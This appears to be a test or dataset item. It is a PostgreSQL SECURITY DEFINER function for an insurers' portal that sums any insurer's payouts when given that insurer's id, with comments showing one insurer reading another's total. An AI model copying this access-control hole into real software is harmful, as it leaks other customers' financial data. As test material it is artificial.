-- The function adds up the payouts of the insurer whose number it is given, with rights above the fence.
-- about: payout_total, payouts
-- as: hf_insurers_portal
-- exploit: SET dental.insurer_id = '1';
-- exploit: SELECT ins.payout_total(2, NULL);
-- shows: 8642.10
CREATE FUNCTION ins.payout_total(p_insurer integer, p_from date) RETURNS numeric
  LANGUAGE sql STABLE SECURITY DEFINER
  SET search_path = pg_catalog, pg_temp
AS $$
  SELECT sum(p.amount)
  FROM ins.payouts p
  WHERE p.insurer_id = coalesce(p_insurer, ins.insurer()) AND (p_from IS NULL OR p.paid_on >= p_from)
$$;
GRANT EXECUTE ON FUNCTION ins.payout_total(integer, date) TO hf_insurers_portal;
